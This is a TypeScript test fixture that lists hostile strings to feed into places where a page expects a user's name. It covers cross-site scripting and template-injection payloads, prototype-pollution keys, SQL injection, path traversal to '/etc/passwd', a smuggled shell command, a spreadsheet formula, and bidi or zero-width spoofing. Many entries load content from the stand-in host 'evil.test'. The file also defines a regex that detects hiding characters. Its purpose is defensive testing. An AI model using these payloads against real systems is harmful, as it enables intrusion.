/**
 * What hostile people put where text is expected. Each would say so if it ran: by a dialog, a request to `evil.test`, another page or a
 * frame; or it makes text read as what it is not.
 */

/** At most 64 bytes of plain text each: may stand wherever text of somebody else may, also as a name. */
export const LEGAL_NAMES = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<script src=//evil.test/x.js></script>',
  '<ScRiPt>alert`1`</ScRiPt>',
  '<img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  '\'><svg onload=alert(1)>',
  '<img srcset="//evil.test/x 1x" src=x>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><use href="//evil.test/x.svg#a"/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe src=//evil.test></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data=//evil.test></object>',
  '<embed src=//evil.test>',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<style>@import"//evil.test/x.css"</style>',
  '<div style=background:url(//evil.test/x)>',
  '<base href=//evil.test/>',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<form action=//evil.test><button autofocus>',
  '<input autofocus onfocus=alert(1)>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=//evil.test/x.mp3 autoplay>',
  '<marquee onstart=alert(1)>',
  '<a href="javascript:alert(1)">Click</a>',
  '<a href=//evil.test target=_blank>Click</a>',
  '<math href="javascript:alert(1)">Click</math>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><img src=x onerror=alert(1)></noscript>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<textarea><img src=x onerror=alert(1)>',
  '</title><img src=x onerror=alert(1)>',
  '<portal src=//evil.test></portal>',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.test/x',
  'https://evil.test/?q=',
  '${alert(1)}',
  '{alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '{@html "<img src=x onerror=alert(1)>"}',
  '<%= alert(1) %>',
  '#{alert(1)}',
  '`${alert(1)}`',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '%3Cimg%20src=x%20onerror=alert(1)%3E',
  'expression(alert(1))',
  '"; alert(1); "',
  '\'-alert(1)-\'',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'undefined',
  'null',
  '[object Object]',
  '%s%n%x%d',
  '{"__proto__":{"admin":true}}',
  '\' OR 1=1 --',
  '../../../../etc/passwd',
  '$(touch /tmp/x)',
  '=HYPERLINK("//evil.test")',
  'W'.repeat(64),
] as const

/** No plain text, or more than 64 bytes: what a page may be told all the same, by a party that does not keep to the rules. */
export const FOUL = [
  '\u202Egro.tset.live\u202C',
  'Anna\u202E)resworb',
  'An\u200Bna',
  'An\u200Dna',
  'Anna\uFEFF',
  '\u2066Ben\u2069',
  '\u061CAnna',
  'Anna\u0000<script>alert(1)</script>',
  'Anna\nBen approved.',
  'Anna\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>',
  'Anna\u2028alert(1)//',
  '\u001B[31mAnna\u001B[0m',
  'Anna\u00ADlena',
  ' Anna ',
  'e\u0301',
  'x'.repeat(65),
  '<img src=x onerror=alert(1)>'.repeat(40),
] as const

export const PAYLOADS: readonly string[] = [...LEGAL_NAMES, ...FOUL]

/** Marks that turn, hide or join what stands around them, and control characters but for line breaks. */
const HIDING = /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/u

/** Whether a text on the screen may be read as it stands. */
export function readsTrue(shown: string): boolean {
  return !HIDING.test(shown)
}
